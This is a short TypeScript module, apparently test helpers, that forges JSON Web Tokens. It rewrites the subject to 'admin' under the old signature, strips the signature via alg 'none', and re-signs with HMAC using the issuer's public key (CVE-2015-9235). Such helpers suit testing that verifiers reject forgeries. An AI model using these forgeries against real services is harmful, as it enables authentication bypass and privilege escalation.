import { createHmac, createPublicKey, type JsonWebKey } from 'node:crypto'

function encode(value: unknown): string {
  return Buffer.from(typeof value === 'string' ? value : JSON.stringify(value)).toString('base64url')
}

function split(token: string): { readonly header: Record<string, unknown>; readonly payload: string; readonly signature: string } {
  const [header = '', payload = '', signature = ''] = token.split('.')
  return { header: JSON.parse(Buffer.from(header, 'base64url').toString()) as Record<string, unknown>, payload, signature }
}

/** The token with another subject, under the old signature. */
export function tamper(token: string): string {
  const { header, payload, signature } = split(token)
  const claims = JSON.parse(Buffer.from(payload, 'base64url').toString()) as Record<string, unknown>
  return [encode(header), encode({ ...claims, sub: 'admin' }), signature].join('.')
}

/** The token without a signature (RFC 8725 §3.2). */
export function unsign(token: string): string {
  const { header, payload } = split(token)
  return `${encode({ ...header, alg: 'none' })}.${payload}.`
}

/** The token signed by HMAC, with the issuer's public key as the secret (CVE-2015-9235). */
export function signWithPublicKey(token: string, publicJwk: JsonWebKey): string {
  const { header, payload } = split(token)
  const input = `${encode({ ...header, alg: 'HS256' })}.${payload}`
  const secret = createPublicKey({ key: publicJwk, format: 'jwk' }).export({ format: 'pem', type: 'spki' })
  return `${input}.${createHmac('sha256', secret).update(input).digest('base64url')}`
}
